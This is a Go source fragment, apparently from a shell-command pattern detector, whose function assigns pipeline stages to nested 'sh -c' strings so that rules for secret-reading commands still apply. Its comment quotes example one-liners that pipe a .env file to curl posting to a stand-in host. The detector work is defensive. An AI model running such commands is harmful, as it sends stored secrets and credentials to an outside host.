package patterns

// A command string run with the standard streams of the part that hands
// it over stands where that part stands in its pipeline (fx38a): in
// `cat .env | sh -c "curl -d @- x.io"` the shell's curl reads what cat
// writes, as in `cat .env | curl -d @- x.io`, and in `sh -c 'cat .env' |
// curl -d @- x.io` the shell's cat writes what curl reads. So the nested
// statements are given the part's pipeline stage (as the statements of a
// brace group in a pipeline share its stage), and the defaults that
// match a stage fed by a `[secret]` reader see them. A string given no
// standard input of the part's (an alias's value, a hook run later) and
// one run away from here (ssh's, a container's: ssh itself is the sender
// the pipe feeds) stand in no pipeline.

// stdinPipe returns the pipeline stage the command string part p runs,
// fed by feed, stands in: p's own when feed is p's standard input and the
// string runs here, and none otherwise.
func stdinPipe(p *Part, feed Feed, sc scope) PipeRef {
	if sc.handsAway || sc.handsOwn || feed != p.Feed || p.Pipe.ID < 0 {
		return noPipe()
	}
	return p.Pipe
}
